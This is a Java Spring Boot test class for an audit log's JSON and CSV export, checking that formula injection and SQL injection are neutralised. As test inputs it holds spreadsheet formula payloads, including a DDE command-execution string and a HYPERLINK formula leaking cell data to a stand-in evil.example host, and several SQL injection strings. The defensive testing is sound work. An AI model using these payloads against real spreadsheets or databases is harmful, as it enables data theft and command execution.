package io.territoryscorecard.account;

import static io.territoryscorecard.DemoAccount.ADMIN;
import static io.territoryscorecard.DemoAccount.HAMBURG_MANAGER;
import static org.assertj.core.api.Assertions.assertThat;

import io.territoryscorecard.ApiClient;
import io.territoryscorecard.HttpAnswer;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * The audit log as JSON and CSV. Anyone can put text into it (a token name, or the username of a failed sign-in
 * without any account), so the CSV export must never hand a spreadsheet a formula, and the filters must treat input
 * as values, never as SQL.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT, properties = {
        "spring.datasource.url=jdbc:h2:mem:audit-export-test;MODE=MySQL;"
                + "CASE_INSENSITIVE_IDENTIFIERS=TRUE;DB_CLOSE_DELAY=-1",
        "scorecard.demo.evaluate-on-start=false"})
class AuditExportTest {

    private static final List<String> COLUMNS = List.of("id", "occurred_at", "actor", "action", "target", "details",
            "remote_address");

    @LocalServerPort
    int port;

    ApiClient api;

    @BeforeEach
    void connect() {
        api = ApiClient.anonymous(port);
    }

    @ParameterizedTest(name = "token name {0}")
    @ValueSource(strings = {"=HYPERLINK(\"http://x\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)"})
    void aFormulaInATokenNameIsExportedAsText(String name) {
        HttpAnswer created = api.as(HAMBURG_MANAGER).post("/api/me/tokens",
                "{\"name\":\"" + name.replace("\"", "\\\"") + "\"}");
        assertThat(created.status()).as("%s", created).isEqualTo(201);

        List<List<String>> rows = export("?action=TOKEN_CREATED");

        assertThat(column(rows, "details")).contains("'" + name).doesNotContain(name);
    }

    @Test
    void aFormulaWithQuotesIsQuotedAndEscapedInTheRawCsv() {
        api.as(HAMBURG_MANAGER).post("/api/me/tokens", "{\"name\":\"=HYPERLINK(\\\"http://x\\\",\\\"y\\\")\"}");

        HttpAnswer csv = api.as(ADMIN).get("/api/audit/export.csv?action=TOKEN_CREATED");

        assertThat(csv.body()).contains(",\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\",");
    }

    @Test
    void theUsernameOfAFailedSignInWithoutAnAccountIsExportedAsText() {
        // No colon: HTTP Basic would split the username there.
        String username = "=HYPERLINK(\"evil.example/?\"&A1,\"Click\")";
        assertThat(api.basic(username, "whatever").get("/api/me").status()).isEqualTo(401);

        List<List<String>> rows = export("?action=SIGN_IN_FAILED");

        assertThat(column(rows, "actor")).contains("'" + username).doesNotContain(username);
        assertThat(column(rows, "target")).contains("'" + username).doesNotContain(username);
    }

    @Test
    void theExportIsAnAttachmentWithOneHeaderAndAFixedNumberOfColumns() {
        api.as(HAMBURG_MANAGER).post("/api/me/tokens", "{\"name\":\"comma, \\\"quote\\\" and\\nnew line\"}");

        HttpAnswer csv = api.as(ADMIN).get("/api/audit/export.csv");

        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.contentType()).startsWith("text/csv");
        assertThat(csv.header("Content-Disposition")).hasValue("attachment; filename=\"audit.csv\"");
        List<List<String>> rows = parse(csv.body());
        assertThat(rows.get(0)).isEqualTo(COLUMNS);
        assertThat(rows).hasSizeGreaterThan(1).allSatisfy(row -> assertThat(row).hasSize(COLUMNS.size()));
        assertThat(column(rows, "details")).contains("comma, \"quote\" and\nnew line");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"actor=x' OR '1'='1", "actor=admin' --", "action=x' OR 1=1 --",
            "actor=%' OR actor LIKE '%", "action=TOKEN_CREATED' UNION SELECT 1,2,3,4,5,6,7 --"})
    void sqlInAFilterMatchesNothing(String filter) {
        api.as(HAMBURG_MANAGER).post("/api/me/tokens", "{\"name\":\"something to find\"}");
        String[] parts = filter.split("=", 2);
        String query = "?" + parts[0] + "=" + ApiClient.encoded(parts[1]);

        HttpAnswer json = api.as(ADMIN).get("/api/audit" + query);
        HttpAnswer csv = api.as(ADMIN).get("/api/audit/export.csv" + query);

        assertThat(json.status()).as("%s", json).isEqualTo(200);
        assertThat(json.json().size()).isZero();
        assertThat(csv.status()).as("%s", csv).isEqualTo(200);
        assertThat(parse(csv.body())).containsExactly(COLUMNS);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"from=2026-01-01' OR 1=1 --", "to=x' OR '1'='1", "from=2026-13-45"})
    void sqlOrNonsenseInATimeFilterIsABadRequestNamingIt(String filter) {
        String[] parts = filter.split("=", 2);

        HttpAnswer answer = api.as(ADMIN).get("/api/audit?" + parts[0] + "=" + ApiClient.encoded(parts[1]));

        assertThat(answer.status()).as("%s", answer).isEqualTo(400);
        assertThat(answer.contentType()).startsWith("application/problem+json");
        assertThat(answer.json().path("detail").asString()).startsWith(parts[0] + ":");
    }

    @Test
    void aFilterByActorFindsExactlyThatActor() {
        api.as(HAMBURG_MANAGER).post("/api/me/tokens", "{\"name\":\"mine\"}");

        HttpAnswer answer = api.as(ADMIN).get("/api/audit?actor=hamburg.manager");

        assertThat(answer.json().size()).isPositive();
        answer.json().forEach(event -> assertThat(event.path("actor").asString()).isEqualTo("hamburg.manager"));
    }

    private List<List<String>> export(String query) {
        HttpAnswer csv = api.as(ADMIN).get("/api/audit/export.csv" + query);
        assertThat(csv.status()).as("%s", csv).isEqualTo(200);
        return parse(csv.body());
    }

    private static List<String> column(List<List<String>> rows, String name) {
        int index = COLUMNS.indexOf(name);
        return rows.stream().skip(1).map(row -> row.get(index)).toList();
    }

    /** RFC 4180: fields separated by commas, rows by CRLF, quoted fields with "" for a quote. */
    static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(field.toString());
                field.setLength(0);
            } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                row.add(field.toString());
                field.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                field.append(c);
            }
        }
        assertThat(quoted).as("unterminated quote").isFalse();
        assertThat(field.length() == 0 && row.isEmpty()).as("the last row ends with CRLF").isTrue();
        return rows;
    }
}
